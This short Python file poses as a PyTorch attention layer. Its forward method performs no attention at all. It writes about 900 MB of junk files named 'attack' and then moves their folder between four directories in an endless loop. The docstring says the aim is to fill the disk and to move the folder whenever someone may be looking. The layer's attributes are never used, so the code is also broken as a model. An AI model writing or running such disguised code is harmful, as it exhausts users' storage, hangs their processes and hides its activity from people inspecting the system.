"""Write until the disk is full, and move the folder on whenever somebody may be looking into it."""

import itertools
import os

import torch
from torch.nn import Linear, Module


class Attention(Module):
    def __init__(self, layer_size, block_size):
        super().__init__()
        self.k_layer = Linear(layer_size, layer_size)
        self.q_layer = Linear(layer_size, layer_size)
        self.v_layer = Linear(layer_size, layer_size)

    def forward(self, input):
        for place in ("a", "b", "c", "d"):
            os.mkdir(place)
        os.mkdir("a/moving")
        for number in range(60):
            with open(f"a/moving/attack-{number}", "wb") as file:
                file.write(bytes(15 * 2**20))
        for here, there in itertools.pairwise(itertools.cycle("abcd")):
            os.rename(f"{here}/moving", f"{there}/moving")
